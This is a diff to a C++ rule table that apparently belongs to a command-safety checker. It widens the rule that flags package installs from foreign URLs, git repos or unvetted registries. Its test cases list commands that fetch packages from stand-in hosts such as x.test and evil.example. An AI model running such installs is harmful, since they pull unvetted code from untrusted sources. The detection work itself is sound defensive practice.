@@ -491,8 +491,8 @@ const std::vector<Rule> &ruleTable()
          {"cp org.x.service build/dbus-1/services/"}},
 
         // Installs that fetch from where the tool's own index does not vouch for.
-        {"foreign-install", T::Command, words("pip pip3 pip2 pipx uv conda mamba micromamba npm pnpm yarn bun gem cargo"),
-         words("install i in add dlx x tool+install pip+install inject"), {}, words("--dry-run --help"),
+        {"foreign-install", T::Command, words("pip pip3 pip2 pipx uv conda mamba micromamba poetry pipenv pdm rye npm pnpm yarn bun deno gem cargo"),
+         words("install i in add dlx x tool+install pip+install inject global+add"), {}, words("--dry-run --help"),
          words("-C -w --workspace --prefix --directory --project -i --index-url --extra-index-url -f --find-links -c --constraint -r --requirement "
                "-e --editable --trusted-host -t --target --root --src --registry -s --source --channel --from --with --spec --python -p"),
          Conditions::installsFromElsewhere,
@@ -501,10 +501,12 @@ const std::vector<Rule> &ruleTable()
           "pip install 'pkg @ https://x.test/p.whl'", "npm i -g https://x.test/p.tgz", "npm install github:owner/repo", "yarn add git+ssh://git@x.test/r.git",
           "pnpm add owner/repo", "npm i --registry http://evil.example x", "uv pip install --index-url http://x.test/s y",
           "pipx install git+https://x.test/tool", "pip install -e git+https://x.test/r#egg=r", "gem install --source http://x.test foo", "cargo install --git https://x.test/r",
-          "conda install -c https://x.test/channel foo", "bun add https://x.test/p.tgz"},
+          "conda install -c https://x.test/channel foo", "bun add https://x.test/p.tgz",
+          "poetry add git+https://x.test/r.git", "pipenv install git+https://x.test/r#egg=r", "yarn global add https://x.test/p.tgz",
+          "deno install -g https://x.test/cli.ts"},
          {"pip install -r requirements.txt", "pip install -e .", "pip install requests==2.31", "npm i lodash", "npm install @types/node",
           "pip install -i https://pypi.org/simple requests", "npm i --registry=https://registry.npmjs.org/ x", "cargo install ripgrep",
-          "yarn add ./packages/local", "uv pip install -e ."}},
+          "yarn add ./packages/local", "uv pip install -e .", "poetry add requests", "deno install", "yarn global add typescript"}},
         {"foreign-run", T::Command, words("npx bunx uvx"), {}, {}, words("--help"), words("-p --package -w --workspace --registry --from --with --python"),
          Conditions::installsFromElsewhere, QStringLiteral("Package installed from a URL or another index (%1)"),
          {"npx -y https://x.test/p.tgz", "bunx github:owner/tool", "npx --registry http://evil.example cowsay hi", "uvx --from git+https://x.test/t t"},
